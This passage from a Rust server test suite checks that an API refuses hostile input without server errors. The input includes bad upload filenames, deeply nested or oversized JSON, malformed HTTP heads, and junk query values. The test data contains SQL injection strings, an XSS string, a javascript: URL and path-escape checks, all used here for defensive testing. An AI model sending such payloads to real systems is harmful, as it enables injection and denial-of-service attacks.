    let reply = app.fetch(url, session, &[]).await;
    assert_eq!(reply.status, 200, "{name}");
    let raw = reply.headers.get("content-disposition").unwrap_or_else(|| panic!("{name}: no content-disposition"));
    let text = raw.to_str().unwrap_or_else(|_| panic!("{name}: content-disposition is not visible ascii: {raw:?}"));
    assert!(!text.chars().any(char::is_control), "{name}: {text:?}");
    let parsed = ContentDisposition::from_raw(raw).unwrap_or_else(|error| panic!("{name}: {text}: {error}"));
    assert!(parsed.is_inline(), "{name}: a photo is shown inline: {text}");
    let served = parsed.get_filename_ext().map(|value| String::from_utf8(value.value.clone()).expect("utf-8 name"));
    assert_eq!(served.as_deref(), media["original_filename"].as_str(), "{name}: {text}");
}

fn list_files(dir: &Path, files: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            list_files(&path, files);
        } else {
            files.push(path);
        }
    }
}

/// Nothing landed beside the media folder, no hostile name reached the disk, and every stored
/// original is named by its digest alone.
fn assert_nothing_written_outside(app: &TestApp) {
    let media_dir = app.media_dir();
    let root = media_dir.parent().expect("the media folder has a parent");
    for entry in std::fs::read_dir(root).expect("the server's folder").flatten() {
        let entry_name = entry.file_name().to_string_lossy().into_owned();
        assert!(["data", "media", "index"].contains(&entry_name.as_str()), "{entry_name} appeared beside media/");
    }
    let mut files = Vec::new();
    list_files(root, &mut files);
    for path in &files {
        let file_name = path.file_name().unwrap_or_default().to_string_lossy();
        assert!(!file_name.contains("evil") && !file_name.contains("passwd"), "{} was written", path.display());
    }
    let mut originals = Vec::new();
    list_files(&media_dir.join("originals"), &mut originals);
    for path in &originals {
        let file_name = path.file_name().unwrap_or_default().to_string_lossy();
        let digest = file_name.len() == 64 && file_name.chars().all(|c| c.is_ascii_hexdigit());
        assert!(digest, "original stored as {}", path.display());
    }
}

#[actix_web::test]
async fn hostile_filenames_are_kept_only_as_sanitised_metadata_and_served_in_a_well_formed_disposition() {
    let app = TestApp::spawn().await;
    let (author, work) = film_work(&app).await;
    let photo = fixtures::jpeg(32, 24);
    let escape_target = std::env::temp_dir().join("evil.jpg");
    let existed_before = escape_target.exists();
    let cases = filenames();
    for case in &cases {
        let reply = upload_with_parameters(&app, &author, &work, &case.parameters, &photo).await;
        if reply.status != 201 {
            assert_refused(&reply, case.name);
            continue;
        }
        let media = reply.json();
        check_kept_filename(case, &media);
        check_disposition(&app, &author, case.name, &media).await;
    }
    app.assert_healthy().await;
    assert_nothing_written_outside(&app);
    assert!(existed_before || !escape_target.exists(), "an upload escaped to {}", escape_target.display());
    report("filenames", cases.len());
}

// ---------------------------------------------------------------------------------------------
// JSON bodies, headers and query strings
// ---------------------------------------------------------------------------------------------

/// What a hostile API request may end as.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Answer {
    /// A 4xx with the JSON envelope and a stable code.
    Rejected,
    /// Exactly this 4xx, with the envelope.
    RejectedWith(u16),
    /// Anything but a 5xx: a junk value in a free-text filter may simply match nothing, and a
    /// NUL in a post's body may be stored. A 4xx still carries the envelope.
    NotServerError,
    /// Refused by the HTTP layer before any route runs: a 4xx, whose body may be empty because
    /// actix answers malformed request heads itself, without the envelope.
    ProtocolError,
    /// As `ProtocolError`, or the connection closed: for a request head over actix's 128 KiB
    /// buffer or 96 headers, actix queues a bodiless 431 and closes at once, so a client still
    /// writing the oversized head may see the reset before it can read the 431. Accepted for
    /// overlong heads only.
    HeadTooLarge,
}

/// How a case is sent.
enum Request {
    /// With awc: method, path, headers and body.
    Http { method: Method, path: String, headers: Vec<(String, String)>, body: Vec<u8> },
    /// Written to a socket as is (awc refuses to send malformed requests): `head`, then
    /// `filler` `repeat` times, then `tail`, so 100 MB never sit in memory.
    Raw { head: Vec<u8>, filler: Vec<u8>, repeat: usize, tail: Vec<u8> },
}

struct ApiCase {
    name: String,
    request: Request,
    answer: Answer,
}

/// An existing work and its author's token, which most cases need to get past authentication.
struct Target {
    token: String,
    work: String,
}

const MIB: usize = 1024 * 1024;

fn bearer(token: &str) -> (String, String) {
    ("authorization".to_owned(), format!("Bearer {token}"))
}

fn http(method: Method, path: &str, headers: Vec<(String, String)>, body: Vec<u8>) -> Request {
    Request::Http { method, path: path.to_owned(), headers, body }
}

fn api_case(name: impl Into<String>, request: Request, answer: Answer) -> ApiCase {
    ApiCase { name: name.into(), request, answer }
}

/// A POST of a new work with this raw JSON body.
fn post_work(name: impl Into<String>, target: &Target, body: impl Into<Vec<u8>>, answer: Answer) -> ApiCase {
    let headers = vec![bearer(&target.token), ("content-type".to_owned(), "application/json".to_owned())];
    api_case(name, http(Method::POST, "/api/v1/works", headers, body.into()), answer)
}

/// A request head as raw bytes: the request line, `Host`, `Connection: close` (so the server
/// ends the connection after its answer), then `lines` verbatim.
fn raw_head(request_line: &[u8], lines: &[&[u8]]) -> Vec<u8> {
    let mut head = request_line.to_vec();
    head.extend_from_slice(b"\r\nhost: 127.0.0.1\r\nconnection: close\r\n");
    for line in lines {
        head.extend_from_slice(line);
        head.extend_from_slice(b"\r\n");
    }
    head.extend_from_slice(b"\r\n");
    head
}

/// A small raw request, head and body written at once: the server reads it whole before it
/// answers, so closing after a refusal never resets the connection under the answer.
fn raw(name: impl Into<String>, head: Vec<u8>, body: &[u8], answer: Answer) -> ApiCase {
    let head = [&head[..], body].concat();
    api_case(name, Request::Raw { head, filler: Vec::new(), repeat: 0, tail: Vec::new() }, answer)
}

/// One HTTP chunk of a chunked body.
fn chunk(data: &[u8]) -> Vec<u8> {
    [format!("{:x}\r\n", data.len()).into_bytes(), data.to_vec(), b"\r\n".to_vec()].concat()
}

/// A wrong-typed value for each field of a new work.
struct WrongTypes {
    field: &'static str,
    values: &'static [&'static str],
}

const WRONG_TYPES: &[WrongTypes] = &[
    WrongTypes { field: "kind", values: &["1", "true", "null", "[]", "{}", "\"podcast\""] },
    WrongTypes { field: "title", values: &["42", "[]", "{}", "false", "null"] },
    WrongTypes { field: "body", values: &["1", "[]", "{}"] },
    WrongTypes { field: "summary", values: &["1", "[\"a\"]"] },
    WrongTypes { field: "tags", values: &["\"反诈\"", "1", "[1]", "[[]]", "{\"a\":\"b\"}", "[null]"] },
    WrongTypes { field: "unit", values: &["5", "[]"] },
    WrongTypes {
        field: "credits",
        values: &[
            "\"导演\"",
            "1",
            "[1]",
            "[\"a\"]",
            "[{\"name\":1,\"role\":\"r\"}]",
            "[{\"name\":\"n\",\"role\":{}}]",
            "[{\"name\":\"n\"}]",
            "[{\"name\":\"n\",\"role\":\"r\",\"x\":1}]",
        ],
    },
    WrongTypes { field: "channel", values: &["1", "true"] },
    WrongTypes { field: "external_url", values: &["1", "[]", "\"javascript:alert(1)\""] },
    WrongTypes { field: "published_at", values: &["1", "\"昨天\"", "\"2024-13-01T00:00:00Z\"", "[]"] },
    WrongTypes { field: "assignees", values: &["\"x\"", "[1]"] },
    WrongTypes { field: "due_date", values: &["1", "\"tomorrow\""] },
];

/// A new work's JSON with `field` set to the raw JSON `value`.
fn work_with(field: &str, value: &str) -> String {
    let mut members = vec![("kind", "\"weibo_post\""), ("title", "\"t\"")];
    match members.iter_mut().find(|(name, _)| *name == field) {
        Some(member) => member.1 = value,
        None => members.push((field, value)),
    }
    let members: Vec<String> = members.iter().map(|(name, value)| format!("\"{name}\":{value}")).collect();
    format!("{{{}}}", members.join(","))
}

/// Deep nesting, bodies far over the limit, wrong types, invalid UTF-8, and JSON that is
/// almost JSON.
fn json_cases(target: &Target) -> Vec<ApiCase> {
    let deep = 100_000;
    let mut cases = vec![
        post_work("100 000 open arrays", target, "[".repeat(deep), Answer::Rejected),
        post_work(
            "100 000 nested arrays",
            target,
            format!("{}{}", "[".repeat(deep), "]".repeat(deep)),
            Answer::Rejected,
        ),
        post_work(
            "100 000 nested objects",
            target,
            format!("{}1{}", "{\"a\":".repeat(deep), "}".repeat(deep)),
            Answer::Rejected,
        ),
        post_work(
            "100 000 nested arrays in tags",
            target,
            work_with("tags", &format!("{}{}", "[".repeat(deep), "]".repeat(deep))),
            Answer::Rejected,
        ),
        post_work(
            "100 000 nested objects in credits",
            target,
            work_with("credits", &format!("[{}\"n\"{}]", "{\"name\":".repeat(deep), "}".repeat(deep))),
            Answer::Rejected,
        ),
        post_work(
            "3 MB body",
            target,
            work_with("body", &format!("\"{}\"", "a".repeat(3 * MIB))),
            Answer::RejectedWith(413),
        ),
        hundred_megabytes_chunked(target),
        hundred_megabytes_declared(target),
    ];
    for wrong in WRONG_TYPES {
        for value in wrong.values {
            let name = format!("{} = {value}", wrong.field);
            cases.push(post_work(name, target, work_with(wrong.field, value), Answer::Rejected));
        }
    }
    for (name, body) in [
        ("empty body", ""),
        ("null", "null"),
        ("a number", "1"),
        ("a string", "\"work\""),
        ("true", "true"),
        ("an empty object", "{}"),
        ("trailing garbage", "{\"kind\":\"weibo_post\",\"title\":\"t\"} x"),
        ("NaN", "{\"kind\":\"weibo_post\",\"title\":NaN}"),
        ("a number out of range", "{\"kind\":\"weibo_post\",\"title\":1e999}"),
        ("duplicate keys", "{\"kind\":\"weibo_post\",\"title\":\"a\",\"title\":\"b\"}"),
        ("lone leading surrogate escape", "{\"kind\":\"weibo_post\",\"title\":\"\\ud800\"}"),
        ("lone trailing surrogate escape", "{\"kind\":\"weibo_post\",\"title\":\"\\udc00\"}"),
        ("escaped nul in the title", "{\"kind\":\"weibo_post\",\"title\":\"a\\u0000b\"}"),
        ("escaped nul in the summary", "{\"kind\":\"weibo_post\",\"title\":\"t\",\"summary\":\"\\u0000\"}"),
        ("escaped nul in the unit", "{\"kind\":\"weibo_post\",\"title\":\"t\",\"unit\":\"a\\u0000\"}"),
        ("escaped nul in a tag", "{\"kind\":\"weibo_post\",\"title\":\"t\",\"tags\":[\"\\u0000\"]}"),
    ] {
        cases.push(post_work(name, target, body, Answer::Rejected));
    }
    for (name, body) in [
        ("raw 0xff in a string", &b"{\"kind\":\"weibo_post\",\"title\":\"\xff\"}"[..]),
        ("overlong utf-8", &b"{\"kind\":\"weibo_post\",\"title\":\"\xc0\xaf\"}"[..]),
        ("truncated utf-8 character", &b"{\"kind\":\"weibo_post\",\"title\":\"\xe4\xb8\"}"[..]),
        ("utf-8 encoded surrogate", &b"{\"kind\":\"weibo_post\",\"title\":\"\xed\xa0\x80\"}"[..]),
        ("raw nul in a string", &b"{\"kind\":\"weibo_post\",\"title\":\"a\0b\"}"[..]),
        ("byte order mark", &b"\xef\xbb\xbf{\"kind\":\"weibo_post\",\"title\":\"t\"}"[..]),
    ] {
        cases.push(post_work(name, target, body, Answer::Rejected));
    }
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain("{\"kind\":\"weibo_post\",\"title\":\"t\"}".encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    cases.push(post_work("utf-16 body", target, utf16, Answer::Rejected));
    // A post's body keeps its text as is; a NUL in it may be stored, but never a 500.
    cases.push(post_work(
        "escaped nul in the body",
        target,
        work_with("body", "\"a\\u0000b\""),
        Answer::NotServerError,
    ));
    cases
}

/// 100 MB of JSON in 1 MiB chunks with no declared length: the limit must cut it while
/// streaming.
fn hundred_megabytes_chunked(target: &Target) -> ApiCase {
    let auth = format!("authorization: Bearer {}", target.token);
    let lines: [&[u8]; 3] = [auth.as_bytes(), b"content-type: application/json", b"transfer-encoding: chunked"];
    let head =
        [raw_head(b"POST /api/v1/works HTTP/1.1", &lines), chunk(b"{\"kind\":\"weibo_post\",\"title\":\"")].concat();
    let filler = chunk(&vec![b'a'; MIB]);
    let tail = [chunk(b"\"}"), b"0\r\n\r\n".to_vec()].concat();
    let request = Request::Raw { head, filler, repeat: 100, tail };
    api_case("100 MB JSON body, streamed in chunks", request, Answer::RejectedWith(413))
}

/// 100 MB of JSON with its length declared up front: refused before it is read.
fn hundred_megabytes_declared(target: &Target) -> ApiCase {
    let prefix = b"{\"kind\":\"weibo_post\",\"title\":\"";
    let length = format!("content-length: {}", prefix.len() + 100 * MIB + 2);
    let auth = format!("authorization: Bearer {}", target.token);
    let lines: [&[u8]; 3] = [auth.as_bytes(), b"content-type: application/json", length.as_bytes()];
    let head = [&raw_head(b"POST /api/v1/works HTTP/1.1", &lines)[..], &prefix[..]].concat();
    let request = Request::Raw { head, filler: vec![b'a'; MIB], repeat: 100, tail: b"\"}".to_vec() };
    api_case("100 MB JSON body with a declared length", request, Answer::RejectedWith(413))
}

/// Overlong header values and cookies, too many headers, and bytes no header may hold.
fn header_cases(target: &Target) -> Vec<ApiCase> {
    let long = "a".repeat(64 * 1024);
    let token = &target.token;
    let json = ("content-type".to_owned(), "application/json".to_owned());
    let cookie = ("cookie".to_owned(), format!("microcat_session={token}"));
    let new_work = br#"{"kind":"weibo_post","title":"t"}"#.to_vec();
    let many_cookies: Vec<String> = (0..2000).map(|index| format!("c{index}=v")).collect();
    let get = |name: &str, path: &str, headers: Vec<(String, String)>, answer: Answer| {
        api_case(name, http(Method::GET, path, headers, Vec::new()), answer)
    };
    let mut cases = vec![
        get("64 KiB bearer token", "/api/v1/works", vec![bearer(&long)], Answer::Rejected),
        get(
            "64 KiB session cookie",
            "/api/v1/works",
            vec![("cookie".to_owned(), format!("microcat_session={long}"))],
            Answer::Rejected,
        ),
        get("2000 cookies", "/api/v1/works", vec![("cookie".to_owned(), many_cookies.join("; "))], Answer::Rejected),
        get(
            "64 KiB custom header with a valid token",
            "/api/v1/works",
            vec![bearer(token), ("x-padding".to_owned(), long.clone())],
            Answer::NotServerError,
        ),
        get(
            "64 KiB accept-language on an unknown route",
            "/api/v1/nowhere",
            vec![("accept-language".to_owned(), long.clone())],
            Answer::Rejected,
        ),
        api_case(
            "64 KiB content type",
            http(
                Method::POST,
                "/api/v1/works",
                vec![bearer(token), ("content-type".to_owned(), format!("application/{long}"))],
                new_work.clone(),
            ),
            Answer::Rejected,
        ),
        api_case(
            "64 KiB if-match",
            http(
                Method::PATCH,
                &format!("/api/v1/works/{}", target.work),
                vec![bearer(token), json.clone(), ("if-match".to_owned(), format!("\"{}\"", "9".repeat(64 * 1024)))],
                br#"{"title":"x"}"#.to_vec(),
            ),
            Answer::Rejected,
        ),
        api_case(
            "64 KiB csrf token with a cookie session",
            http(
                Method::POST,
                "/api/v1/works",
                vec![cookie.clone(), json.clone(), ("x-csrf-token".to_owned(), long.clone())],
                new_work.clone(),
            ),
            Answer::Rejected,
        ),
        api_case(
            "64 KiB origin with a cookie session",
            http(
                Method::POST,
                "/api/v1/works",
                vec![cookie, json, ("origin".to_owned(), format!("http://{long}.example"))],
                new_work,
            ),
            Answer::Rejected,
        ),
    ];
    let auth = format!("authorization: Bearer {token}");
    let auth = auth.as_bytes();
    let padding = format!("x-padding: {}", "a".repeat(200 * 1024));
    let huge_cookie = format!("cookie: microcat_session={}", "a".repeat(MIB));
    let many: Vec<String> = (0..100).map(|index| format!("x-header-{index}: {index}")).collect();
    let mut many_lines: Vec<&[u8]> = many.iter().map(String::as_bytes).collect();
    many_lines.push(auth);
    let list = b"GET /api/v1/works HTTP/1.1";
    let create = b"POST /api/v1/works HTTP/1.1";
    let json_line = b"content-type: application/json".as_slice();
    cases.extend([
        raw("200 KiB header value", raw_head(list, &[auth, padding.as_bytes()]), b"", Answer::HeadTooLarge),
        raw("100 headers", raw_head(list, &many_lines), b"", Answer::HeadTooLarge),
        raw("1 MiB cookie", raw_head(list, &[huge_cookie.as_bytes()]), b"", Answer::HeadTooLarge),
        raw("nul in a header value", raw_head(list, &[auth, b"x-evil: a\0b"]), b"", Answer::ProtocolError),
        raw("space in a header name", raw_head(list, &[auth, b"bad header: 1"]), b"", Answer::ProtocolError),
        raw("folded header line", raw_head(list, &[auth, b"x-folded: a", b" continued"]), b"", Answer::ProtocolError),
        raw(
            "0xff bytes in the bearer token",
            raw_head(list, &[b"authorization: Bearer \xff\xfe"]),
            b"",
            Answer::Rejected,
        ),
        raw(
            "content-length that is not a number",
            raw_head(create, &[auth, json_line, b"content-length: abc"]),
            b"{}",
            Answer::ProtocolError,
        ),
        raw(
            "two different content-lengths",
            raw_head(create, &[auth, json_line, b"content-length: 2", b"content-length: 3"]),
            b"{}",
            Answer::ProtocolError,
        ),
        raw(
            "unknown transfer-encoding",
            raw_head(create, &[auth, json_line, b"transfer-encoding: gzip"]),
            b"{}",
            Answer::ProtocolError,
        ),
        raw(
            "malformed chunk size",
            raw_head(create, &[auth, json_line, b"transfer-encoding: chunked"]),
            b"zz\r\n{}\r\n0\r\n\r\n",
            Answer::ProtocolError,
        ),
    ]);
    cases
}

/// Junk values for one query parameter.
struct Junk {
    parameter: &'static str,
    values: &'static [&'static [u8]],
}

/// Every parameter of `GET /api/v1/works` with values it must refuse.
const LIST_JUNK: &[Junk] = &[
    Junk {
        parameter: "kind",
        values: &[b"podcast", b"<script>alert(1)</script>", b"micro_film\0", b"\xff\xfe", b"' OR 1=1 --"],
    },
    Junk { parameter: "status", values: &[b"flying", b"\xff", b"published\0", b"1; DROP TABLE works"] },
    Junk {
        parameter: "page",
        values: &[b"-1", b"0", b"1e3", b"NaN", b"99999999999999999999", b"1.5", b"0x10", b"", b"\xff", b"100001"],
    },
    Junk { parameter: "per_page", values: &[b"0", b"101", b"-5", b"abc", b"1e2"] },
    Junk { parameter: "from", values: &[b"last-week", b"2024-13-45", b"9999999-01-01", b"\xff", b"2024-02-30"] },
    Junk { parameter: "to", values: &[b"'; DROP TABLE works;--", b"2024-00-10", b"\0"] },
    Junk { parameter: "sort", values: &[b"random", b"\xff", b"newest;DROP", b"newest oldest"] },
    Junk { parameter: "deleted", values: &[b"maybe", b"1", b"\xff", b"yes"] },
];

/// Every filter of `GET /api/v1/search` with values it must refuse.
const SEARCH_JUNK: &[Junk] = &[
    Junk { parameter: "kind", values: &[b"podcast", b"\xff"] },
    Junk { parameter: "status", values: &[b"flying", b"\0"] },
    Junk { parameter: "page", values: &[b"0", b"-1", b"abc", b"99999999999999999999"] },
    Junk { parameter: "per_page", values: &[b"1000", b"0"] },
    Junk { parameter: "from", values: &[b"yesterday", b"\xff"] },
    Junk { parameter: "to", values: &[b"2024-02-30"] },
    Junk { parameter: "sort", values: &[b"random", b"newest;DROP"] },
];

/// Search queries with nothing to search: operators, quotes and brackets only.
const OPERATOR_ONLY: [&str; 16] = [
    "OR",
    "-",
    "\"",
    "\"\"",
    "( )",
    "- OR -",
    "OR OR OR OR",
    "-\"\" OR ( ) -",
    "“ ” 「 」",
    "－ － －",
    "|",
    "-- -- --",
    "((( )))",
    "* ? ~ ^ : \\ / + ! { } [ ]",
    "&& || !",
    "OR -\"\"",
];

/// A query string, each value percent-encoded as a form would send it.
fn query_string(pairs: &[(&str, &[u8])]) -> String {
    let encoded: Vec<String> = pairs
        .iter()
        .map(|(name, value)| format!("{name}={}", url::form_urlencoded::byte_serialize(value).collect::<String>()))
        .collect();
    encoded.join("&")
}

/// Junk in every query parameter, invalid UTF-8, duplicates, 10 000-character and
/// operator-only searches, and request lines no URI parser takes.
fn query_cases(target: &Target) -> Vec<ApiCase> {
    let token = &target.token;
    let get = |name: String, path: String, answer: Answer| {
        api_case(name, http(Method::GET, &path, vec![bearer(token)], Vec::new()), answer)
    };
    let mut cases = Vec::new();
    for (endpoint, table) in [("/api/v1/works", LIST_JUNK), ("/api/v1/search", SEARCH_JUNK)] {
        for junk in table {
            for value in junk.values {
                let shown: String = String::from_utf8_lossy(value).chars().take(40).collect();
                let path = format!("{endpoint}?{}", query_string(&[(junk.parameter, *value)]));
                cases.push(get(format!("{endpoint} {}={shown:?}", junk.parameter), path, Answer::RejectedWith(400)));
            }
        }
        // Free-text filters match nothing rather than fail; a NUL or 0xFF must not be a 500.
        for parameter in ["unit", "tag"] {
            for value in [&b"\0"[..], &b"\xff"[..], "x".repeat(10_000).as_bytes(), &b"' OR 1=1 --"[..]] {
                let shown: String = String::from_utf8_lossy(value).chars().take(20).collect();
                let path = format!("{endpoint}?{}", query_string(&[(parameter, value)]));
                cases.push(get(format!("{endpoint} {parameter}={shown:?}"), path, Answer::NotServerError));
            }
        }
        let duplicate = format!("{endpoint}?page=1&page=2");
        cases.push(get(format!("{endpoint} with page twice"), duplicate, Answer::RejectedWith(400)));
    }
    cases.push(get("works created_by=\\0".into(), "/api/v1/works?created_by=%00".into(), Answer::NotServerError));
    let search = |q: &[u8]| format!("/api/v1/search?{}", query_string(&[("q", q)]));
    let too_long = [
        ("10 000 letters", "a".repeat(10_000)),
        // Percent-encoded, 10 000 Chinese characters outgrow the 65 534 bytes a URI may have
        // (sent raw below); 5 000 still exceed the query limit.
        ("5 000 chinese characters", "警".repeat(5_000)),
        ("10 000 characters of OR", "OR ".repeat(3_334)),
        ("40 words", (0..40).map(|index| format!("w{index}")).collect::<Vec<_>>().join(" ")),
    ];
    for (name, q) in too_long {
        cases.push(get(format!("search of {name}"), search(q.as_bytes()), Answer::RejectedWith(400)));
    }
    for q in OPERATOR_ONLY {
        cases.push(get(format!("search of only {q:?}"), search(q.as_bytes()), Answer::RejectedWith(400)));
    }
    cases.push(get("search of 0xff".into(), search(&b"\xff\xfe"[..]), Answer::RejectedWith(400)));
    cases.push(get("search of nul".into(), search(&b"\0"[..]), Answer::RejectedWith(400)));
    // Words among the operators, or nothing at all: a search (or a listing), never a 500.
    for q in ["AND OR NOT", "title:* OR body:*", "   ", "\u{202E}警察", "警 \0 察", "\"unbalanced 反诈"] {
        cases.push(get(format!("search of {q:?}"), search(q.as_bytes()), Answer::NotServerError));
    }
    let auth = format!("authorization: Bearer {token}");
    let auth = auth.as_bytes();
    let chinese = format!("GET {} HTTP/1.1", search("警".repeat(10_000).as_bytes()));
    cases.extend([
        raw(
            "search of 10 000 chinese characters (a 90 KB URI)",
            raw_head(chinese.as_bytes(), &[auth]),
            b"",
            Answer::ProtocolError,
        ),
        raw(
            "raw 0xff in the query",
            raw_head(b"GET /api/v1/works?kind=\xff\xfe HTTP/1.1", &[auth]),
            b"",
            Answer::ProtocolError,
        ),
        raw(
            "raw utf-8 in the query",
            raw_head("GET /api/v1/search?q=警察 HTTP/1.1".as_bytes(), &[auth]),
            b"",
            Answer::ProtocolError,
        ),
        raw(
            "raw space in the query",
            raw_head(b"GET /api/v1/search?q=a b HTTP/1.1", &[auth]),
            b"",
            Answer::ProtocolError,
        ),
        raw("nul in the path", raw_head(b"GET /api/v1/works\0 HTTP/1.1", &[auth]), b"", Answer::ProtocolError),
        raw(
            "control byte in the method",
            raw_head(b"G\x01T /api/v1/works HTTP/1.1", &[auth]),
            b"",
            Answer::ProtocolError,
        ),
    ]);
    cases
}

/// An answer read off the wire.
struct Answered {
    status: u16,
    body: Vec<u8>,
}

/// One complete answer in `received`: a head, then `Content-Length` bytes.
fn parse_answer(received: &[u8], at_eof: bool) -> Option<Answered> {
    let head_end = received.windows(4).position(|window| window == b"\r\n\r\n")?;
    let head = String::from_utf8_lossy(&received[..head_end]);
    let status: u16 = head.split_whitespace().nth(1)?.parse().ok()?;
    let length = head
        .lines()
        .skip(1)
        .filter_map(|line| line.split_once(':'))
        .find(|(name, _)| name.trim().eq_ignore_ascii_case("content-length"))
        .and_then(|(_, value)| value.trim().parse::<usize>().ok());
    let body = &received[head_end + 4..];
    match length {
        Some(length) if body.len() >= length => Some(Answered { status, body: body[..length].to_vec() }),
        // Without a length the body runs to the close.
        None if at_eof => Some(Answered { status, body: body.to_vec() }),
        _ => None,
    }
}

/// Sends a raw request on a fresh connection, writing in the background so an early answer
/// (a 413 before the body is sent) is heard, and reads one answer; `Err` when the connection
/// closed or failed before a whole answer arrived.
async fn raw_exchange(
    address: &str,
    head: Vec<u8>,
    filler: Vec<u8>,
    repeat: usize,
    tail: Vec<u8>,
) -> Result<Answered, String> {
    use tokio::io::AsyncWriteExt;
    let host = address.trim_start_matches("http://");
    let stream = actix_rt::net::TcpStream::connect(host).await.map_err(|error| format!("connect: {error}"))?;
    let (mut reader, mut writer) = stream.into_split();
    let sending = actix_rt::spawn(async move {
        let mut written = writer.write_all(&head).await;
        for _ in 0..repeat {
            if written.is_ok() {
                written = writer.write_all(&filler).await;
            }
        }
        if written.is_ok() {
            let _ = writer.write_all(&tail).await;
        }
        // Keep the write half open (not half-closed) until the answer has been read.
        std::future::pending::<()>().await;
    });
    let outcome = actix_rt::time::timeout(Duration::from_secs(60), read_answer(&mut reader))
        .await
        .unwrap_or_else(|_| Err(NO_ANSWER.to_owned()));
    sending.abort();
    outcome
}

/// Why a raw exchange failed when the server neither answered nor closed.
const NO_ANSWER: &str = "no answer within 60 s";

/// Reads until one whole answer has arrived; `Err` when the connection closed or failed first.
async fn read_answer(reader: &mut (impl tokio::io::AsyncRead + Unpin)) -> Result<Answered, String> {
    use tokio::io::AsyncReadExt;
    let mut received = Vec::new();
    let mut buffer = vec![0u8; 64 * 1024];
    loop {
        if let Some(answer) = parse_answer(&received, false) {
            return Ok(answer);
        }
        let read = reader.read(&mut buffer).await.map_err(|error| format!("read: {error}"))?;
        if read == 0 {
            return parse_answer(&received, true)
                .ok_or_else(|| format!("closed after {} bytes without an answer", received.len()));
        }
        received.extend_from_slice(&buffer[..read]);
    }
}

async fn send(app: &TestApp, request: &Request) -> Result<Answered, String> {
    match request {
        Request::Http { method, path, headers, body } => {
            let headers: Vec<(&str, &str)> =
                headers.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
            let reply = app.raw(method.clone(), path, &headers, body.clone()).await;
            Ok(Answered { status: reply.status, body: reply.body })
        }
        Request::Raw { head, filler, repeat, tail } => {
            raw_exchange(&app.address, head.clone(), filler.clone(), *repeat, tail.clone()).await
        }
    }
}

/// The JSON envelope with a stable code.
fn assert_envelope(name: &str, body: &[u8]) {
    let text = String::from_utf8_lossy(body);
    let envelope: Value =
        serde_json::from_slice(body).unwrap_or_else(|_| panic!("{name}: not the JSON envelope: {text}"));
    let code = envelope["error"]["code"].as_str().unwrap_or_default();
    assert!(is_stable_code(code), "{name}: no stable code in {envelope}");
}

fn check_answer(case: &ApiCase, answer: Result<Answered, String>) {
    let name = &case.name;
    let Answered { status, body } = match answer {
        Ok(answered) => answered,
        // See `Answer::HeadTooLarge`: the 431 may be lost to the reset that follows it. A server
        // that neither answers nor closes is still a failure.
        Err(error) if case.answer == Answer::HeadTooLarge && error != NO_ANSWER => return,
        Err(error) => panic!("{name}: no answer: {error}"),
    };
    let text = String::from_utf8_lossy(&body);
    assert!(status < 500, "{name}: server error {status}: {text}");
    match case.answer {
        Answer::Rejected => {
            assert!((400..500).contains(&status), "{name}: expected a 4xx, got {status}: {text}");
            assert_envelope(name, &body);
        }
        Answer::RejectedWith(expected) => {
            assert_eq!(status, expected, "{name}: {text}");
            assert_envelope(name, &body);
        }
        Answer::NotServerError => {
            if status >= 400 {
                assert_envelope(name, &body);
            }
        }
        Answer::ProtocolError | Answer::HeadTooLarge => {
            assert!((400..500).contains(&status), "{name}: expected a 4xx, got {status}: {text}");
            if !body.is_empty() {
                assert_envelope(name, &body);
            }
        }
    }
}

/// Sends a group one case at a time, checks each answer, then that the server is healthy.
async fn run_api_group(app: &TestApp, group: &str, cases: &[ApiCase]) -> usize {
    for case in cases {
        let answer = send(app, &case.request).await;
        check_answer(case, answer);
    }
    let health = app.request(Method::GET, "/healthz", None, None).await;
    assert_eq!(health.status, 200, "the server is unhealthy after the {group} group");
    cases.len()
}

#[actix_web::test]
async fn hostile_json_headers_and_query_strings_get_a_4xx_with_a_stable_code_and_never_a_5xx() {
    let app = TestApp::spawn().await;
    let author = app.user_with_roles("author", &[Role::Contributor]).await;
    let work = app.create_work(&author, work_json("weibo_post", "既有作品")).await;
    let target = Target { token: author.token.clone(), work: work["id"].as_str().expect("work id").to_owned() };
    let mut tried = 0;
    for (group, cases) in
        [("json", json_cases(&target)), ("headers", header_cases(&target)), ("queries", query_cases(&target))]
    {
        tried += run_api_group(&app, group, &cases).await;
    }
    let still_there = app.get(&format!("/api/v1/works/{}", target.work), &author).await;
    assert_eq!(still_there.status, 200, "the existing work survived: {}", still_there.text());
    report("json, headers, queries", tried);
}

/// The corpus, counted without a server: at least 80 cases in all.
#[test]
fn the_hostile_corpus_has_at_least_eighty_cases() {
    let sources = sources();
    let target = Target { token: "token".into(), work: "00000000-0000-0000-0000-000000000000".into() };
    let counts = [
        ("truncations", truncations(&sources).len()),
        ("bit flips", bit_flips(&sources).len()),
        ("bombs", bombs().len()),
        ("playlists", playlists(9).len()),
        ("disguised", disguised().len()),
        ("polyglots", polyglots().len()),
        ("filenames", filenames().len()),
        ("json", json_cases(&target).len()),
        ("headers", header_cases(&target).len()),
        ("queries", query_cases(&target).len()),
    ];
    let total: usize = counts.iter().map(|(_, count)| count).sum();
    eprintln!("hostile corpus: {total} cases: {counts:?}");
    assert!(total >= 80, "{total} cases");
}
